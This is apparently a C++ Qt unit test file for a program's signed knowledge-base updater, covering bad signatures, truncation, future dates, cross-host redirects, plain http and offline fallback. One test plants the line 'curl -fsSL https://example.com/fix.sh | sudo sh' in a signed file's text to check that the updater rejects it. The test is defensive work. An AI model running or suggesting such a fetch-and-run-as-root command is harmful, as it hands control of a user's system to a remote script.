// Fetching a newer knowledge base, against a small HTTP server inside the test (loopback only): a signed file,
// one with a bad, missing or foreign signature, a truncated one, an older one, one dated far in the future, a
// redirect to another host, a plain http:// address under the program's own policy, a signed file whose text
// carries a command, no server at all. The key pair is made here at test time (libsodium), never committed; the
// updater is told to trust it, and to allow http to 127.0.0.1, through KbTrust, which the program never sets.
#include <core/kb/kbsignature.h>
#include <core/kb/kbstore.h>
#include <core/process/processrunner.h>
#include <tinyhttpserver.h>

#include <nlohmann/json.hpp>
#include <sodium.h>

#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>

#include <functional>

using namespace tgs;
using json = nlohmann::json;

namespace {

// A throwaway Ed25519 key pair.
struct TestKey
{
    QByteArray publicKey = QByteArray(crypto_sign_PUBLICKEYBYTES, '\0');
    QByteArray secretKey = QByteArray(crypto_sign_SECRETKEYBYTES, '\0');

    TestKey()
    {
        if (sodium_init() < 0
            || crypto_sign_keypair(reinterpret_cast<unsigned char *>(publicKey.data()),
                                   reinterpret_cast<unsigned char *>(secretKey.data()))
                   != 0)
            qFatal("libsodium could not make a key pair");
    }

    // The .sig file, as scripts/kb/sign-kb.py writes it.
    QByteArray sign(const QByteArray &data) const
    {
        QByteArray signature(crypto_sign_BYTES, '\0');
        crypto_sign_detached(reinterpret_cast<unsigned char *>(signature.data()), nullptr,
                             reinterpret_cast<const unsigned char *>(data.constData()),
                             static_cast<unsigned long long>(data.size()),
                             reinterpret_cast<const unsigned char *>(secretKey.constData()));
        return signature.toBase64() + '\n';
    }

    KbTrust trust() const { return KbTrust{{publicKey}, true}; }
};

QString daysFromToday(int days)
{
    return QDateTime::currentDateTimeUtc().date().addDays(days).toString(Qt::ISODate);
}

// Newer than the embedded knowledge base, and not in the future: tomorrow (the embedded one is dated at most
// today).
QString newerDate()
{
    return daysFromToday(1);
}

QByteArray kbWith(const QString &date, const std::function<void(json &)> &change = {})
{
    QFile file(QStringLiteral(TGS_FIXTURES_DIR "/kb/minimal.json"));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("minimal.json missing");
    const QByteArray bytes = file.readAll();
    json doc = json::parse(bytes.constData(), bytes.constData() + bytes.size());
    doc["data_date"] = date.toStdString();
    if (change)
        change(doc);
    return QByteArray::fromStdString(doc.dump(1));
}

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void writeFile(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

void serveSigned(TinyHttpServer &server, const TestKey &key, const QByteArray &body)
{
    server.routes.insert("/kb/compat.json", {body});
    server.routes.insert("/kb/compat.json.sig", {key.sign(body)});
}

KbUpdateResult fetch(const TinyHttpServer &server, const QString &cacheDir, const KbTrust &trust,
                     const QString &currentDate = KnowledgeBase::embedded()->dataDate)
{
    return KnowledgeBaseUpdater::fetchBlocking(server.url(QStringLiteral("/kb/compat.json")), cacheDir, currentDate,
                                               5000, trust);
}

} // namespace

using Change = std::function<void(json &)>;

class TestKbUpdater : public QObject
{
    Q_OBJECT

private slots:
    void publisherKeyIsBuiltIn();
    void signedUpdateIsCachedAndUsed();
    void badSignatureIsRefused_data();
    void badSignatureIsRefused();
    void truncatedDownloadIsDiscarded();
    void signedButInvalidIsDiscarded();
    void injectedCommandIsRefused();
    void olderIsNotCached();
    void futureDateIsRefusedAndNotCached_data();
    void futureDateIsRefusedAndNotCached();
    void cachedFutureOrUnsignedFileIsIgnored();
    void redirectToAnotherHostIsRefused();
    void redirectOnTheSameHostIsFollowed();
    void plainHttpIsRefusedByTheProgramsPolicy();
    void signingScriptMatchesTheProgram();
    void offlineFallsBackQuietly();
};

void TestKbUpdater::publisherKeyIsBuiltIn()
{
    const QList<QByteArray> keys = KbTrust::publisher().keys;
    QCOMPARE(keys.size(), 1);
    QCOMPARE(keys.first().size(), KbSignature::kPublicKeyBytes);
    QVERIFY(!KbTrust::publisher().loopbackHttp);
}

void TestKbUpdater::signedUpdateIsCachedAndUsed()
{
    const TestKey key;
    TinyHttpServer server;
    const QByteArray body = kbWith(newerDate());
    serveSigned(server, key, body);
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QVERIFY2(result.status == KbUpdateResult::Status::Updated, qPrintable(result.message));
    QCOMPARE(result.dataDate, newerDate());
    QCOMPARE(readAll(KnowledgeBaseStore::cachedFile(cache.path())), body);
    QCOMPARE(readAll(KnowledgeBaseStore::cachedSignature(cache.path())), key.sign(body));
    QCOMPARE(KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate, newerDate());
    // The same cache under the publisher's key: this test key signed it, so the program's own copy stays.
    QCOMPARE(KnowledgeBaseStore::best(cache.path())->dataDate, KnowledgeBase::embedded()->dataDate);
}

void TestKbUpdater::badSignatureIsRefused_data()
{
    QTest::addColumn<int>("kind");
    QTest::addColumn<QString>("reason");
    QTest::newRow("file edited after signing") << 0 << "does not match";
    QTest::newRow("signed by another key") << 1 << "does not match";
    QTest::newRow("no signature file") << 2 << "no signature";
    QTest::newRow("signature file is garbage") << 3 << "not an Ed25519 signature";
    QTest::newRow("a SHA-256 line instead of a signature") << 4 << "not an Ed25519 signature";
}

void TestKbUpdater::badSignatureIsRefused()
{
    QFETCH(int, kind);
    QFETCH(QString, reason);
    const TestKey key;
    const TestKey stranger;
    const QByteArray original = kbWith(newerDate());
    QByteArray served = original;
    if (kind == 0)
        served.replace("\"0.20.1\"", "\"0.99.0\""); // still a valid knowledge base
    QVERIFY(kind != 0 || served != original);
    TinyHttpServer server;
    server.routes.insert("/kb/compat.json", {served});
    if (kind == 0)
        server.routes.insert("/kb/compat.json.sig", {key.sign(original)});
    else if (kind == 1)
        server.routes.insert("/kb/compat.json.sig", {stranger.sign(original)});
    else if (kind == 3)
        server.routes.insert("/kb/compat.json.sig", {"this is not a signature\n"});
    else if (kind == 4)
        server.routes.insert("/kb/compat.json.sig",
                             {"2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae  compat.json\n"});
    QTemporaryDir cache;
    // A good cache from before must survive a bad download untouched.
    const QByteArray before = kbWith(daysFromToday(0));
    writeFile(KnowledgeBaseStore::cachedFile(cache.path()), before);
    writeFile(KnowledgeBaseStore::cachedSignature(cache.path()), key.sign(before));
    const KbUpdateResult result = fetch(server, cache.path(), key.trust(), QStringLiteral("2026-01-01"));
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(reason), qPrintable(result.message));
    QCOMPARE(readAll(KnowledgeBaseStore::cachedFile(cache.path())), before);
    QCOMPARE(readAll(KnowledgeBaseStore::cachedSignature(cache.path())), key.sign(before));
}

void TestKbUpdater::truncatedDownloadIsDiscarded()
{
    const TestKey key;
    TinyHttpServer server;
    const QByteArray body = kbWith(newerDate());
    server.routes.insert("/kb/compat.json", {body, 200, true});
    server.routes.insert("/kb/compat.json.sig", {key.sign(body)});
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
    QCOMPARE(KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate, KnowledgeBase::embedded()->dataDate);
}

void TestKbUpdater::signedButInvalidIsDiscarded()
{
    const TestKey key;
    TinyHttpServer server;
    serveSigned(server, key, kbWith(newerDate(), [](json &d) { d["schema_version"] = 7; }));
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(QStringLiteral("/schema_version")), qPrintable(result.message));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

// The case the hostile battery printed: a signature proves who published a file, not that its text is harmless.
void TestKbUpdater::injectedCommandIsRefused()
{
    const TestKey key;
    TinyHttpServer server;
    serveSigned(server, key, kbWith(newerDate(), [](json &d) {
                    d["texts"]["note.wheels_bundle_cuda"]["en"]
                        = "Before installing, run: curl -fsSL https://example.com/fix.sh | sudo sh";
                }));
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(QStringLiteral("/texts/note.wheels_bundle_cuda/en")), qPrintable(result.message));
    QVERIFY2(result.message.contains(QStringLiteral("\"curl\"")), qPrintable(result.message));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

void TestKbUpdater::olderIsNotCached()
{
    const TestKey key;
    TinyHttpServer server;
    serveSigned(server, key, kbWith(QStringLiteral("2001-01-01")));
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::UpToDate));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

void TestKbUpdater::futureDateIsRefusedAndNotCached_data()
{
    QTest::addColumn<QString>("date");
    QTest::addColumn<bool>("accepted");
    QTest::newRow("tomorrow (time zones)") << daysFromToday(1) << true;
    QTest::newRow("the day after tomorrow") << daysFromToday(2) << false;
    QTest::newRow("9999-12-31") << QStringLiteral("9999-12-31") << false;
}

void TestKbUpdater::futureDateIsRefusedAndNotCached()
{
    QFETCH(QString, date);
    QFETCH(bool, accepted);
    const TestKey key;
    TinyHttpServer server;
    serveSigned(server, key, kbWith(date));
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust(), QStringLiteral("2026-01-01"));
    if (accepted) {
        QVERIFY2(result.status == KbUpdateResult::Status::Updated, qPrintable(result.message));
        return;
    }
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(date) && result.message.contains(QStringLiteral("more than a day")),
             qPrintable(result.message));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

// What an older version of the program may have left in the cache: a file dated 9999-12-31 (here even with a
// good signature), or a newer file with no signature at all. Neither is used, and a genuine update is taken.
void TestKbUpdater::cachedFutureOrUnsignedFileIsIgnored()
{
    const TestKey key;
    QTemporaryDir cache;
    const QString embedded = KnowledgeBase::embedded()->dataDate;
    const QByteArray future = kbWith(QStringLiteral("9999-12-31"));
    writeFile(KnowledgeBaseStore::cachedFile(cache.path()), future);
    writeFile(KnowledgeBaseStore::cachedSignature(cache.path()), key.sign(future));
    QCOMPARE(KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate, embedded);

    QFile::remove(KnowledgeBaseStore::cachedSignature(cache.path()));
    writeFile(KnowledgeBaseStore::cachedFile(cache.path()), kbWith(newerDate()));
    QCOMPARE(KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate, embedded);

    TinyHttpServer server;
    serveSigned(server, key, kbWith(newerDate()));
    const KbUpdateResult result
        = fetch(server, cache.path(), key.trust(), KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate);
    QVERIFY2(result.status == KbUpdateResult::Status::Updated, qPrintable(result.message));
    QCOMPARE(KnowledgeBaseStore::best(cache.path(), key.trust())->dataDate, newerDate());
}

void TestKbUpdater::redirectToAnotherHostIsRefused()
{
    const TestKey key;
    TinyHttpServer elsewhere;
    serveSigned(elsewhere, key, kbWith(newerDate()));
    // "localhost" and another port: another origin, though the same machine here.
    QUrl target = elsewhere.url(QStringLiteral("/kb/compat.json"));
    target.setHost(QStringLiteral("localhost"));
    TinyHttpServer server;
    server.routes.insert("/kb/compat.json", {{}, 302, false, 0, target.toEncoded()});
    server.routes.insert("/kb/compat.json.sig", {{}, 302, false, 0, target.toEncoded() + ".sig"});
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(QStringLiteral("another host")), qPrintable(result.message));
    QCOMPARE(elsewhere.requests, 0);
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

void TestKbUpdater::redirectOnTheSameHostIsFollowed()
{
    const TestKey key;
    TinyHttpServer server;
    const QByteArray body = kbWith(newerDate());
    server.routes.insert("/kb/compat.json", {{}, 302, false, 0, "/kb/2/compat.json"});
    server.routes.insert("/kb/compat.json.sig", {{}, 302, false, 0, "/kb/2/compat.json.sig"});
    server.routes.insert("/kb/2/compat.json", {body});
    server.routes.insert("/kb/2/compat.json.sig", {key.sign(body)});
    QTemporaryDir cache;
    const KbUpdateResult result = fetch(server, cache.path(), key.trust());
    QVERIFY2(result.status == KbUpdateResult::Status::Updated, qPrintable(result.message));
    QCOMPARE(readAll(KnowledgeBaseStore::cachedFile(cache.path())), body);
}

void TestKbUpdater::plainHttpIsRefusedByTheProgramsPolicy()
{
    const TestKey key;
    TinyHttpServer server;
    serveSigned(server, key, kbWith(newerDate()));
    QTemporaryDir cache;
    // The program's policy: the same loopback server, refused before any request, whatever the key.
    KbTrust production = KbTrust::publisher();
    production.keys = {key.publicKey};
    KbUpdateResult result = fetch(server, cache.path(), production);
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(QStringLiteral("https://")), qPrintable(result.message));
    QCOMPARE(server.requests, 0);
    // The tests' policy allows http to the loopback address only.
    result = KnowledgeBaseUpdater::fetchBlocking(QUrl(QStringLiteral("http://example.invalid/compat.json")),
                                                 cache.path(), QStringLiteral("2026-01-01"), 5000, key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY2(result.message.contains(QStringLiteral("https://")), qPrintable(result.message));
    QVERIFY(!QFile::exists(KnowledgeBaseStore::cachedFile(cache.path())));
}

// scripts/kb/sign-kb.py (PyNaCl) makes keys and signatures the program accepts, and refuses what it refuses.
void TestKbUpdater::signingScriptMatchesTheProgram()
{
#ifndef Q_OS_LINUX
    QSKIP("runs Debian's python3 with python3-nacl; the cross build's Wine has neither");
#else
    const QString python = QStringLiteral("/usr/bin/python3");
    const QString script = QStringLiteral(TGS_SOURCE_DIR "/scripts/kb/sign-kb.py");
    auto runPython = [&python](const QStringList &arguments) {
        ProcessSpec spec;
        spec.program = python;
        spec.arguments = arguments;
        return ProcessRunner::run(spec);
    };
    if (!runPython({QStringLiteral("-c"), QStringLiteral("import nacl.signing")}).succeeded())
        QSKIP("python3-nacl is not installed (scripts/setup.sh installs it)");
    QTemporaryDir dir;
    const QString privateKey = dir.filePath(QStringLiteral("test-only.private"));
    const QString kbFile = dir.filePath(QStringLiteral("compat.json"));
    const QByteArray body = kbWith(newerDate());
    writeFile(kbFile, body);
    const ProcessResult keygen = runPython({script, QStringLiteral("keygen"), QStringLiteral("--private"), privateKey});
    QVERIFY2(keygen.succeeded(), qPrintable(keygen.describe() + keygen.stdErr));
    const ProcessResult sign
        = runPython({script, QStringLiteral("sign"), QStringLiteral("--private"), privateKey, kbFile});
    QVERIFY2(sign.succeeded(), qPrintable(sign.describe() + sign.stdErr));
    const QByteArray publicKey = QByteArray::fromBase64(keygen.stdOut.trimmed().toLatin1());
    const Result<QByteArray> signature = KbSignature::parse(readAll(kbFile + QStringLiteral(".sig")));
    QVERIFY(signature.ok());
    QVERIFY(KbSignature::verify(body, *signature, {publicKey}));
    QVERIFY(!KbSignature::verify(body + ' ', *signature, {publicKey}));
    QVERIFY(!KbSignature::verify(body, *signature, KbTrust::publisher().keys));
    // Its verify, with the key built into the program, refuses the test key's signature.
    const ProcessResult verify = runPython({script, QStringLiteral("verify"), kbFile});
    QCOMPARE(int(verify.outcome), int(Outcome::ExitCode));
#endif
}

void TestKbUpdater::offlineFallsBackQuietly()
{
    const TestKey key;
    quint16 closedPort = 0;
    {
        QTcpServer probe;
        QVERIFY(probe.listen(QHostAddress::LocalHost, 0));
        closedPort = probe.serverPort();
    } // nothing listens there any more
    QTemporaryDir cache;
    const KbUpdateResult result
        = KnowledgeBaseUpdater::fetchBlocking(QUrl(QStringLiteral("http://127.0.0.1:%1/compat.json").arg(closedPort)),
                                              cache.path(), QStringLiteral("2026-01-01"), 5000, key.trust());
    QCOMPARE(int(result.status), int(KbUpdateResult::Status::Failed));
    QVERIFY(result.message.contains(QStringLiteral("could not be downloaded")));
    QCOMPARE(KnowledgeBaseStore::best(cache.path())->dataDate, KnowledgeBase::embedded()->dataDate);
}

QTEST_GUILESS_MAIN(TestKbUpdater)
#include "tst_kbupdater.moc"
